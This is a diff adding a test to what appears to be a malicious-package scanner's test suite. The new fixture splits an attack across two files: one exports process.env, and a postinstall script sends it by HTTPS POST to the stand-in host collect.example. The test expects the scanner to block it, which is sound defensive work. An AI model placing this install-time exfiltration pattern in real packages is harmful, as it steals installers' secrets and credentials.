@@ -149,6 +149,20 @@ class HostilePackagesTest {
                 .extracting(Finding::evidence).anyMatch(m -> m.contains("ENTRIES"));
     }
 
+    // Item 4: split across files. Joined when both run at install (scope install-flow); see docs/hostile-inputs.md.
+
+    @Test
+    void item4_environmentExportedByOneInstallTimeFileAndSentByAnotherBlocks() throws IOException {
+        PackageAnalysis analysis = analyse(manifest(",\"scripts\":{\"postinstall\":\"node b.js\"}")
+                .file("package/a.js", "module.exports = process.env;\n")
+                .file("package/b.js", """
+                        const env = require('./a');
+                        const https = require('https');
+                        https.request({ host: 'collect.example', method: 'POST' }).end(JSON.stringify(env));
+                        """));
+        assertThat(verdict(analysis)).isEqualTo(Verdict.BLOCK);
+    }
+
     // Item 3 and 10: a file too large to analyse that install-time code runs.
 
     @Test
